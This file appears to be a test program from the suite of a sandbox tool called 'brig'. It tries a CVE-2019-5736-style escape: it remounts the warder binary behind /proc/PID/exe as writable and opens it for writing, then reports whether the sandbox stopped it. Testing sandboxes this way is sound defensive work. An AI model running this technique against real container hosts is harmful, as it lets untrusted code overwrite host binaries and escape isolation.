/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trick: the program file of brig's own that runs inside, through /proc/PID/exe: open it
 * for writing, and make its mount writable first (CVE-2019-5736 of runc and its kin).
 * Gain: brig's program on the host, run at the next start with the caller's rights.
 * Expect: chroot=stops nspawn=stops container=stops
 * Layer: read-only mount
 * Layer chroot: read-only mount
 *
 * The program is executed from a read-only mount that is attached nowhere.
 */
#include "hostile.h"

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

struct attr {
	uint64_t set, clr, propagation, userns;
};

static int tried;

static void overwrite(const char *path)
{
	struct attr writable = { .clr = 1 /* MOUNT_ATTR_RDONLY */ };
	char target[PATH_MAX];
	ssize_t n = readlink(path, target, sizeof(target) - 1);

	if (n <= 0)
		return;
	target[n] = '\0';
	if (!strstr(target, "brig-warder"))
		return;
	tried++;
	(void)mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	(void)syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof(writable));
	if (open(path, O_WRONLY | O_CLOEXEC) >= 0 ||
		open(path, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0)
		escaped("%s, brig's warder, can be written", path);
}

int main(int argc, char **argv)
{
	(void)argv;
	do
		each_process("/exe", overwrite);
	while (argc > 1); /* exe-exec.bash wants it to go on */
	stopped("%d processes show brig's warder, none for writing", tried);
}
